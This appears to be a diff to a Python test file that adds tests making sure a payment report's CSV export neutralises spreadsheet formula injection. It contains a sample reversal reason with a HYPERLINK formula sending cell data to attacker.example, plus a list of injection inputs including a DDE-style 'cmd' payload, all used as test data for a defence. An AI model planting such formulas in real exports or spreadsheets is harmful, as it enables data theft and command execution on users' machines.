@@ -23,6 +23,7 @@ import yaml
 from pypdf import PdfReader
 
 from printers.formats import vnd
+from qms import csv_safe
 from tests.conftest import Customers, HallServer
 from tests.hallclient import ApiError, Staff
 from tests.wsclient import ViewClient
@@ -31,6 +32,8 @@ TZ = ZoneInfo("Asia/Ho_Chi_Minh")
 OTHER = "PE0200"
 PASSWORD = "reports-pass"
 GIVEN_BACK = ("refused", "reversed")
+#: a reason typed by a cashier that a spreadsheet would run as a formula, if written raw
+HOSTILE_REASON = '=HYPERLINK("http://attacker.example/?d="&A1,"thu nhầm khách hàng")'
 
 
 @pytest.fixture(scope="module")
@@ -141,7 +144,7 @@ def day(
         )
         c1.act("finish")
         settle(views[0], wanted)
-        c2.post(f"/api/payments/{reversed_txn}/reverse", {"reason": "thu nhầm khách hàng"})
+        c2.post(f"/api/payments/{reversed_txn}/reverse", {"reason": HOSTILE_REASON})
         # CMIS is slow: the customer pays at a bank before our payment reaches CMIS
         _, invoices = serve(desk, c3, customers.take(invoices=1))
         faults(hall, latency_ms=1500)
@@ -247,7 +250,7 @@ def test_refused_and_reversed_are_shown_apart(staff: dict[str, Staff], day: dict
     refused_row, reversed_row = rows[day["refused"]], rows[day["reversed"]]
     assert (refused_row["status"], refused_row["counts"]) == ("refused", False)
     assert (reversed_row["status"], reversed_row["counts"]) == ("reversed", False)
-    assert reversed_row["reversal_reason"] == "thu nhầm khách hàng"
+    assert reversed_row["reversal_reason"] == HOSTILE_REASON
     assert refused_row["error"].startswith("051") and reversed_row["error"] is None
     t = report["totals"]
     assert (t["refused_count"], t["refused"]) == (1, refused_row["total"])
@@ -334,6 +337,29 @@ def test_csv_parses_and_its_totals_match(staff: dict[str, Staff], day: dict[str,
     assert sum(int(c["net"]) for c in sections["by_cashier"]) == report["totals"]["net"]
     assert {c["name"] for c in sections["by_cashier"]} >= {"Phạm Thu Ngân", "Hoàng Văn Thu"}
     assert [x["returned_reason"] for x in sections["returns"]] == ["not_enough_money"]
+    # a cell a spreadsheet would run as a formula is written as text
+    (reversal,) = [t for t in txns if t["txn_id"] == day["reversed"]]
+    assert reversal["reversal_reason"] == "'" + HOSTILE_REASON
+    assert all(not v.startswith(("=", "+", "@")) for t in txns for v in t.values())
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 912", "'+84 912"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5000", "-5000"),  # a shortfall stays a number the sheet can sum
+        ("thu nhầm", "thu nhầm"),
+    ],
+)
+def test_every_exported_cell_is_inert(typed: str, written: str) -> None:
+    buf = io.StringIO()
+    csv_safe.Writer(buf).writerow([typed])
+    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [written]
 
 
 def pdf_text(raw: bytes) -> str:
